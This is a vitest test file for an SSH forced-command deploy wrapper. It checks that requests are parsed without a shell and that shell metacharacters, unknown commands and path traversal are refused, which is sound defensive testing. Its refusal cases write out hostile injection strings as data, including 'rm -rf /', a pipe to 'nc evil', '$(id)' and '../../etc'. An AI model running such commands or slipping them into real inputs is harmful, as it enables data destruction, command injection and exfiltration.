/**
 * The forced command of the deploy SSH key: SSH_ORIGINAL_COMMAND is split into
 * words without a shell, checked, and handed to the deploy entry point (via
 * sudo on a server) word for word, stdin included. Anything a shell would
 * interpret is refused before anything runs.
 */
import { spawnSync } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { scratchDir } from "../support/generate.js";
import { DeployHarness, deploySshBin, recorder } from "./deploy-harness.js";

function runWrapper(request: string | undefined, input = "", args: string[] = []) {
  const dir = scratchDir("deploy-ssh");
  const target = recorder(dir);
  const env: NodeJS.ProcessEnv = { ...process.env, TOWLION_DEPLOY_ENTRY: target.command, TOWLION_DEPLOY_SUDO: "" };
  if (request === undefined) delete env.SSH_ORIGINAL_COMMAND;
  else env.SSH_ORIGINAL_COMMAND = request;
  const result = spawnSync(deploySshBin, args, { env, input, encoding: "utf8" });
  return { status: result.status, stderr: result.stderr, argv: target.argv(), stdin: target.stdin(), ran: fs.existsSync(path.join(dir, "argv")) };
}

describe("deploy-ssh", () => {
  it("passes a valid request to the entry point word for word, with stdin", () => {
    const run = runWrapper(
      "deploy shop 0123abcd --repo 127.0.0.1:5000/acme/shop  --domain shop.example.com --registry-user acme",
      "token-from-the-workflow\n",
    );
    expect(run.stderr).toBe("");
    expect(run.status).toBe(0);
    expect(run.argv).toEqual([
      "deploy", "shop", "0123abcd", "--repo", "127.0.0.1:5000/acme/shop", "--domain", "shop.example.com", "--registry-user", "acme",
    ]);
    expect(run.stdin).toBe("token-from-the-workflow\n");
  });

  it.each([
    ["status shop; rm -rf /", "';'"],
    ["status shop && id", "'&'"],
    ["status shop | nc evil 1", "'|'"],
    ["status $(id)", "'\\$'"],
    ["status `id`", "'`'"],
    ["status 'shop'", "'''"],
    ['status "shop"', "'\"'"],
    ["status shop > /etc/x", "'>'"],
    ["status shop\nid", "'\\?'"],
    ["status shop\tx", "'\\?'"],
    ["status sh*", "'\\*'"],
    ["status ~root", "'~'"],
    ["status shop\\", "'\\\\'"],
  ])("refuses %j (shell characters) without running anything", (request, shown) => {
    const run = runWrapper(request);
    expect(run.status).toBe(2);
    expect(run.stderr).toMatch(new RegExp(`the request contains ${shown}: only letters, digits, spaces and \\. _ - / : are accepted`));
    expect(run.ran).toBe(false);
  });

  it.each([
    ["bash", /unknown command 'bash'/],
    ["scp -t /tmp", /unknown command 'scp'/],
    ["status ../../etc", /invalid app name '\.\.\/\.\.\/etc'/],
    ["rollback shop ../../x", /invalid image tag/],
    ["deploy shop abc --repo /var/lib/x --domain a.example.com", /invalid image repository/],
    ["preview-down shop 1 2", /preview-down takes <app> <pr> \(3 arguments given\)/],
    ["   ", /empty request/],
  ])("refuses %j after parsing it like the entry point", (request, message) => {
    const run = runWrapper(request);
    expect(run.status).toBe(2);
    expect(run.stderr).toMatch(message);
    expect(run.ran).toBe(false);
  });

  it("refuses a request longer than 2048 characters", () => {
    const run = runWrapper(`preview-sweep shop ${"1 ".repeat(1100)}`);
    expect(run.status).toBe(2);
    expect(run.stderr).toMatch(/longer than 2048 characters/);
  });

  it("refuses an interactive login (no request) and arguments of its own", () => {
    const login = runWrapper(undefined);
    expect(login.status).toBe(2);
    expect(login.stderr).toMatch(/this key only runs deploy commands/);
    const withArgs = runWrapper("status shop", "", ["status", "shop"]);
    expect(withArgs.status).toBe(2);
    expect(withArgs.stderr).toMatch(/takes no arguments/);
    expect(withArgs.ran).toBe(false);
  });

  it("runs the entry point through sudo -n by default", () => {
    // A sudo that only records: proves the exact command line the sudoers rule must allow.
    const dir = scratchDir("deploy-ssh-sudo");
    const fakeSudo = path.join(dir, "sudo");
    fs.writeFileSync(fakeSudo, `#!/usr/bin/env bash\nprintf '%s\\n' "$@" >"${dir}/sudo-argv"\n`, { mode: 0o755 });
    const result = spawnSync(deploySshBin, [], {
      env: { ...process.env, PATH: `${dir}:${process.env.PATH ?? ""}`, SSH_ORIGINAL_COMMAND: "status shop" },
      encoding: "utf8",
    });
    expect(result.status).toBe(0);
    expect(fs.readFileSync(path.join(dir, "sudo-argv"), "utf8").split("\n").filter(Boolean)).toEqual([
      "-n", path.join(path.dirname(deploySshBin), "deploy"), "status", "shop",
    ]);
  });
});

describe("deploy as the forced command itself (bootstrap's sudo rule passes SSH_ORIGINAL_COMMAND)", () => {
  it("takes the request from SSH_ORIGINAL_COMMAND when it has no arguments, with the same checks", () => {
    const harness = new DeployHarness("ssh-original");
    const refused = harness.run([], { env: { SSH_ORIGINAL_COMMAND: "status shop;id" } });
    expect(refused.status).toBe(2);
    expect(refused.stderr).toMatch(/the request contains ';'/);
    const unknown = harness.run([], { env: { SSH_ORIGINAL_COMMAND: "status shop" } });
    expect(unknown.status).toBe(1);
    expect(unknown.stderr).toMatch(/app 'shop' has never been deployed here/);
    // Arguments win over SSH_ORIGINAL_COMMAND (deploy-ssh passes both).
    const args = harness.run(["status", "other"], { env: { SSH_ORIGINAL_COMMAND: "status shop" } });
    expect(args.stderr).toMatch(/app 'other' has never been deployed here/);
  });
});
